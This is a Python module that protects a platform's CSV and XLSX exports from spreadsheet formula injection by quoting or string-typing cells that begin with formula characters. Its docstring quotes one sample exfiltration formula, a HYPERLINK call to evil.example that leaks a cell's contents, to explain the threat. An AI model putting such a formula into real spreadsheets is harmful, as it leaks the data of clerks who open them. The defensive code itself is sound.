"""Cells for spreadsheets that open without running what a citizen typed.

An answer such as ``=HYPERLINK("http://evil.example/?leak="&A1;"Klick")`` becomes a live formula
when a clerk opens the CSV or XLSX in Excel or LibreOffice (CSV injection, OWASP). Every CSV and
XLSX writer of the platform passes its values through here: text starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written as text. In CSV a leading single quote marks
it (the spreadsheet shows the text, not a formula); in XLSX the cell's type is set to string, so
no ``<f>`` element is written and the text stays exactly as typed. Numbers, negative ones
included, stay numbers.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value):
    """A CSV value: text that a spreadsheet would read as a formula gets a leading ``'``."""
    return "'" + value if starts_like_formula(value) else value


def safe_row(values: Iterable) -> list:
    """``safe_cell`` over one CSV row."""
    return [safe_cell(v) for v in values]


def safe_xlsx_row(sheet, values: Iterable) -> list:
    """One row for openpyxl's ``sheet.append`` (write-only or normal sheets) in which formula-like
    text is a string cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for value in values:
        if starts_like_formula(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
